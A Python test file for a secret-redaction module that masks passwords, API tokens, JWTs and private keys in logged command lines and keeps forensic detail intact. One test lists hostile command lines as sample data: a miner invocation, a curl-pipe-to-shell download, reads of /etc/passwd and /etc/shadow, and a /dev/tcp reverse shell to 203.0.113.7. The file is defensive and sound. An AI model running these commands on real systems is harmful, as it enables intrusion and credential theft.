"""Secrets on command lines are masked, what an investigator needs is kept."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.domain.targets.redaction import MASK, mask, mask_arguments

CANARY = "c4n4ryS3cretValue9"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"


@pytest.mark.parametrize(
    "arguments",
    [
        ["mysql", "--password", CANARY],
        ["mysql", f"--password={CANARY}"],
        ["tool", f"--db-password={CANARY}"],
        ["tool", "--api-key", CANARY],
        ["tool", f"--apiKey={CANARY}"],
        ["tool", "--dbPassword", CANARY],
        ["tool", f"-token={CANARY}"],
        ["env", f"PGPASSWORD={CANARY}", "psql"],
        ["env", f"AWS_SECRET_ACCESS_KEY={CANARY}", "aws"],
        ["env", f"GITHUB_TOKEN={CANARY}", "gh"],
        ["sh", "-c", f"export DB_PASSWORD='{CANARY}'; run"],
        ["sh", "-c", f'DB_PASSWORD="a {CANARY}" run'],
        ["curl", "-u", f"ada:{CANARY}", "https://x"],
        ["curl", "--user", f"ada:{CANARY}", "https://x"],
        ["curl", f"https://ada:{CANARY}@example.org/"],
        ["curl", f"https://example.org/?api_key={CANARY}&x=1"],
        ["curl", "-H", f"Authorization: Bearer {CANARY}"],
        ["curl", "-H", f"X-Auth-Token: {CANARY}"],
        ["psql", f"postgresql://app:{CANARY}@db/app"],
        ["redis-cli", f"redis://:{CANARY}@cache"],
        ["tool", "AKIA" + "ABCDEFGHIJKLMNOP"],
        ["tool", "ghp_" + "a1" * 18],
        ["tool", "glpat-" + "abcdefghij12345"],
        ["tool", JWT],
        ["tool", f"-----BEGIN RSA PRIVATE KEY-----\n{CANARY}\n-----END RSA PRIVATE KEY-----"],
        ["tool", f"-----BEGIN PRIVATE KEY----- {CANARY}"],
        ["tool", "--passphrase", CANARY],
        ["tool", "--client-secret", CANARY],
    ],
    ids=lambda arguments: " ".join(arguments)[:40],
)
def test_a_secret_is_masked(arguments: list[str]) -> None:
    shown = mask_arguments(arguments)
    assert MASK in shown
    for secret in (CANARY, JWT, "AKIAABCD", "ghp_a1", "glpat-abc"):
        assert secret not in shown
    assert shown.startswith(arguments[0])


@pytest.mark.parametrize(
    "arguments",
    [
        ["/tmp/xmrig", "-o", "pool.example:3333", "--donate-level=0"],
        ["sh", "-c", "curl http://203.0.113.7/x.sh | sh"],
        ["git", "log", "--author=ada"],
        ["tar", "-czf", "/tmp/passwd.tgz", "/etc/passwd"],
        ["cat", "/etc/shadow"],
        ["ssh", "-i", "key", "root@203.0.113.7"],
        ["bash", "-i", ">&", "/dev/tcp/203.0.113.7/4444", "0>&1"],
    ],
    ids=lambda arguments: arguments[0],
)
def test_what_an_investigator_needs_is_kept(arguments: list[str]) -> None:
    assert mask_arguments(arguments) == " ".join(arguments)


def test_an_option_behind_a_secret_option_is_not_its_value() -> None:
    assert mask_arguments(["tool", "--password", "--verbose", "run"]) == "tool --password --verbose run"


@given(st.text())
def test_masking_twice_changes_nothing(text: str) -> None:
    assert mask(mask(text)) == mask(text)


@given(st.lists(st.text()))
def test_any_argument_vector_is_shown(arguments: list[str]) -> None:
    assert isinstance(mask_arguments(arguments), str)
